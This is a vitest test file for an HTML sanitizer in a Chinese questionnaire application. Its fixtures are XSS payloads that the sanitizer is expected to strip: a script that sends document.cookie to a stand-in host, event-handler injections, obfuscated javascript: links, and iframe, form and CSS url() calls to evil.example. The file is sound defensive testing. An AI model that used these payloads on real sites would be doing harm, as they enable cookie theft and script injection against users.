import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { sanitizeDefinitionHtml, sanitizeHtml } from "./html-sanitize";

describe("sanitizeHtml", () => {
  it("keeps the markup a questionnaire's notes need", () => {
    const html =
      '<h3>填写说明</h3><p style="color: #c00; font-weight: bold">本问卷<strong>匿名</strong>填写，约需 5 分钟。</p><ul><li>单选</li><li>可跳过</li></ul><a href="https://jyj.example.gov.cn/faq" target="_blank">常见问题</a><br><img src="/brand/logo.png" alt="徽标">';
    const r = sanitizeHtml(html);
    expect(r.removed).toEqual([]);
    expect(r.html).toBe(
      '<h3>填写说明</h3><p style="color: #c00; font-weight: bold">本问卷<strong>匿名</strong>填写，约需 5 分钟。</p><ul><li>单选</li><li>可跳过</li></ul><a href="https://jyj.example.gov.cn/faq" target="_blank" rel="noopener noreferrer">常见问题</a><br><img src="/brand/logo.png" alt="徽标">',
    );
  });

  it.each([
    ['<p>你好</p><script>fetch("https://x.example/?c="+document.cookie)</script>', "<p>你好</p>", "<script>"],
    ['<img src="/a.png" onerror="alert(1)">', '<img src="/a.png">', "事件属性 onerror"],
    ['<a href="javascript:alert(1)">点我</a>', "<a>点我</a>", "不允许的链接"],
    ['<a href="jav&#x61;script&colon;alert(1)">点我</a>', "<a>点我</a>", "不允许的链接"],
    ['<a href=" java\tscript:alert(1)">点我</a>', "<a>点我</a>", "不允许的链接"],
    ['<iframe src="https://evil.example"></iframe>说明', "说明", "<iframe>"],
    ['<p style="background: url(https://evil.example/beacon.png)">说明</p>', "<p>说明</p>", "可加载外部资源"],
    ["<style>@import url(https://evil.example/x.css);</style><p>说明</p>", "<p>说明</p>", "<style>"],
    ['<img src="https://tracker.example/p.gif">', "<img>", "图片只能使用本站路径"],
    ['<form action="https://evil.example"><input name="pw">密码</form>', "密码", "不允许的标签 <form>"],
    ["<svg><script>alert(1)</script></svg>后文", "后文", "<svg>"],
    ['<p title="</p><img src=x onerror=alert(1)>">x</p>', '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>', ""],
    ["<<script>script>alert(1)</script>", "&lt;", "<script>"],
    ['<div onclick = "steal()" class="note">注意</div>', '<div class="note">注意</div>', "事件属性 onclick"],
    ['<a href="//evil.example/">x</a>', "<a>x</a>", "不允许的链接"],
  ])("removes %s", (input, expected, reason) => {
    const r = sanitizeHtml(input);
    expect(r.html).toBe(expected);
    if (reason) expect(r.removed.join("；")).toContain(reason);
  });

  it("escapes stray angle brackets and ampersands, keeps character references, closes what it opened", () => {
    expect(sanitizeHtml("a < b && c > d &nbsp;&amp; <b>粗")).toEqual({ html: "a &lt; b &amp;&amp; c &gt; d &nbsp;&amp; <b>粗</b>", removed: [] });
  });

  it("property: the output never holds a tag, attribute or URL outside the allow-list", () => {
    const pieces = fc.constantFrom(
      "<",
      ">",
      "/",
      '"',
      "'",
      "=",
      " ",
      "script",
      "img",
      "a",
      "p",
      "href",
      "src",
      "onerror",
      "onload",
      "style",
      "javascript:",
      "url(",
      "x",
      "&#x61;",
      "iframe",
      "<!--",
      "-->",
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
        const { html } = sanitizeHtml(parts.join(""));
        for (const m of html.matchAll(/<\/?([a-zA-Z0-9-]+)([^>]*)>/g)) {
          if (
            !["p", "img", "a", "b"].includes(m[1] ?? "") &&
            !/^(h[1-6]|br|strong|i|em|u|s|small|sub|sup|span|div|ul|ol|li|blockquote|hr|table|thead|tbody|tfoot|tr|th|td|caption|code|pre|mark|abbr)$/.test(
              m[1] ?? "",
            )
          )
            return false;
          if (/\son/i.test(m[2] ?? "") || /javascript:|url\(/i.test(m[2] ?? "")) return false;
        }
        return !/<(?![a-z/])/.test(html.replace(/<\/?[a-z0-9]+(?:\s[^<>]*)?>/g, ""));
      }),
    );
  });
});

describe("sanitizeDefinitionHtml", () => {
  it("cleans html elements in pages and panels, localised strings and the completion pages, and says where", () => {
    const json = {
      id: "social",
      completedHtml: { default: "<p>谢谢</p>", "zh-cn": '<p onclick="x()">谢谢</p>' },
      completedHtmlOnCondition: [{ expression: "{a} = 1", html: "<script>alert(1)</script>好" }],
      pages: [
        {
          name: "p1",
          elements: [{ type: "panel", name: "intro", elements: [{ type: "html", name: "note", html: '<img src=x onerror="alert(1)">' }] }],
          description: "<b>文本</b>",
        },
      ],
    };
    const r = sanitizeDefinitionHtml(json);
    expect(r.json).toEqual({
      id: "social",
      completedHtml: { default: "<p>谢谢</p>", "zh-cn": "<p>谢谢</p>" },
      completedHtmlOnCondition: [{ expression: "{a} = 1", html: "好" }],
      pages: [
        {
          name: "p1",
          elements: [{ type: "panel", name: "intro", elements: [{ type: "html", name: "note", html: '<img src="x">' }] }],
          description: "<b>文本</b>",
        },
      ],
    });
    expect(r.problems).toHaveLength(3);
    expect(r.problems.join("\n")).toMatch(/「note」\.html 含有不允许的 HTML：事件属性 onerror/);
    expect(r.problems.join("\n")).toMatch(/completedHtml\.zh-cn 含有不允许的 HTML：事件属性 onclick/);
    expect(r.problems.join("\n")).toMatch(/completedHtmlOnCondition\[0\]\.html 含有不允许的 HTML：<script>/);
  });
});
